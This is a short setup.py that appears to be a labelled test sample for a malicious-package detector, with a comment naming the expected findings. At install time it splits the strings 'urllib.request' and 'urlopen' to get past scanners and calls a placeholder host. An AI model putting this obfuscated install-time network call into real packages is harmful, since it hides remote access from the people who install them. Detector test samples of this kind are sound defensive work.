import importlib
from setuptools import setup

web = importlib.import_module("url" + "lib.request")
getattr(web, "url" + "open")("https://files.acme.example/b") # expect: malicious-command/obfuscated-api-access, malicious-command/setup-py-code
setup(name="evasion-module", version="1.0")
